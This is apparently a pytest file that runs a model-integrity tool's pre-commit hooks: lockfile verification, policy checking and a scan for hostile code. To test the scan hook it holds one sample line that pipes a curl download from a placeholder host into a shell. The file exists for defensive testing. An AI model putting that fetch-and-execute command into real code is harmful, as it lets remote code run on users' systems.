"""Each hook of .pre-commit-hooks.yaml, run by `pre-commit try-repo` in a throw-away repository.

The hooks are `language: system`: they run the `dflash-guard` on PATH (this checkout's, through
the test venv's console script and PYTHONPATH), so try-repo installs nothing and needs no network.
The lockfile pins a model kept in a throw-away HF cache, so `verify` needs no `--root`.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.release import REPO, clean_env

pytestmark = pytest.mark.slow

COMMIT = "0123456789abcdef0123456789abcdef01234567"
BENIGN_CODE = "def rms(x):\n    return (x * x).mean() ** 0.5\n"
HOSTILE_CODE = "import os\nos.system('curl https://example.invalid/x | sh')\n"


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=project, check=True, capture_output=True, timeout=60)


@pytest.fixture
def project(tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A git repo with a lockfile of a cached model, a policy and an in-repo model folder."""
    cache = tmp_path / "hf" / "hub"
    snapshot = cache / "models--acme--tiny" / "snapshots" / COMMIT
    snapshot.mkdir(parents=True)
    (snapshot / "config.json").write_text('{"model_type": "qwen3"}\n')
    (snapshot / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ")
    (cache / "models--acme--tiny" / "refs").mkdir()
    (cache / "models--acme--tiny" / "refs" / "main").write_text(COMMIT)
    monkeypatch.setenv("HF_HUB_CACHE", str(cache))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("DFLASH_GUARD_CACHE_DIR", str(tmp_path / "dg-cache"))

    repo = tmp_path / "project"
    (repo / "policies").mkdir(parents=True)
    shutil.copy(REPO / "dflash_guard" / "policies" / "dev.yaml", repo / "policies" / "deploy.yaml")
    (repo / "models" / "drafter").mkdir(parents=True)
    (repo / "models" / "drafter" / "modeling_drafter.py").write_text(BENIGN_CODE)
    locked = cli("lock", "--target", snapshot, "--drafter", snapshot, "-o", repo / "dflash.lock")
    assert locked.exit_code == 0, locked.stderr
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    return repo


def _try_repo(project: Path, hook: str) -> subprocess.CompletedProcess[str]:
    """`pre-commit try-repo <this checkout> HOOK --all-files`, run inside `project`."""
    env = clean_env(
        PRE_COMMIT_HOME=str(project.parent / "pre-commit-home"),
        PYTHONPATH=str(REPO),
        GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid",
        GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.invalid",
        HF_HUB_CACHE=os.environ["HF_HUB_CACHE"], HF_HUB_OFFLINE="1",
        DFLASH_GUARD_CACHE_DIR=os.environ["DFLASH_GUARD_CACHE_DIR"],
    )
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", "try-repo", str(REPO), hook, "--all-files",
         "--verbose"],
        cwd=project, env=env, capture_output=True, text=True, timeout=300,
    )


def test_verify_hook_passes_a_good_lockfile_and_fails_a_tampered_one(project: Path):
    good = _try_repo(project, "dflash-guard-verify")
    assert good.returncode == 0, good.stdout + good.stderr
    assert "OK: 4 files match the lockfile" in good.stdout  # 2 files, target and drafter

    lock = project / "dflash.lock"
    text = lock.read_text()
    # one file's size in the version 3 table (`SHA256 SIZE BLOB_ID PATH`), digest left stale
    tampered_text = re.sub(r"^(\s*[0-9a-f]{64} )(\d+)", lambda m: f"{m[1]}{int(m[2]) + 1}", text,
                           count=1, flags=re.MULTILINE)
    assert tampered_text != text
    lock.write_text(tampered_text)
    _git(project, "add", "-A")
    tampered = _try_repo(project, "dflash-guard-verify")
    assert tampered.returncode == 1, tampered.stdout + tampered.stderr
    assert "Failed" in tampered.stdout and "digest" in tampered.stdout


def test_policy_hook_checks_each_changed_policy(project: Path):
    good = _try_repo(project, "dflash-guard-policy-check")
    assert good.returncode == 0, good.stdout + good.stderr
    assert "valid (policy" in good.stdout

    (project / "policies" / "broken.yaml").write_text("allow_everything: true\n")
    _git(project, "add", "-A")
    bad = _try_repo(project, "dflash-guard-policy-check")
    assert bad.returncode == 1, bad.stdout + bad.stderr
    assert "broken.yaml" in bad.stdout and "deploy.yaml" in bad.stdout


def test_scan_hook_fails_on_hostile_remote_code(project: Path):
    good = _try_repo(project, "dflash-guard-scan")
    assert good.returncode == 0, good.stdout + good.stderr
    assert "PASS" in good.stdout

    (project / "models" / "drafter" / "modeling_drafter.py").write_text(HOSTILE_CODE)
    _git(project, "add", "-A")
    bad = _try_repo(project, "dflash-guard-scan")
    assert bad.returncode == 1, bad.stdout + bad.stderr
    assert "DG-RC-PROCESS" in bad.stdout
